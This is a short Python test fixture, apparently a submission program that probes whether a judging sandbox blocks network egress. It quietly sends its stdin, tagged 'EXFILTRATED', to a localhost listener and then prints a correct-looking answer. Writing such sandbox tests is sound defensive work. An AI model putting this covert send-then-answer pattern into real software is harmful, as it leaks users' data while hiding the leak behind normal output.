# Tries to send its input to a listener on 127.0.0.1 (the test substitutes the port), then
# answers correctly whatever happened: the verdict cannot show the leak, the listener can.
import socket
import sys

PORT = "@@LISTEN_PORT@@"

data = sys.stdin.read()
try:
    with socket.create_connection(("127.0.0.1", int(PORT) if PORT.isdigit() else 9), timeout=0.5) as s:
        s.sendall(b"EXFILTRATED " + data.encode())
except OSError:
    pass
a, b = map(int, data.split())
print(f"{a + b}-SECRET-ANSWER")
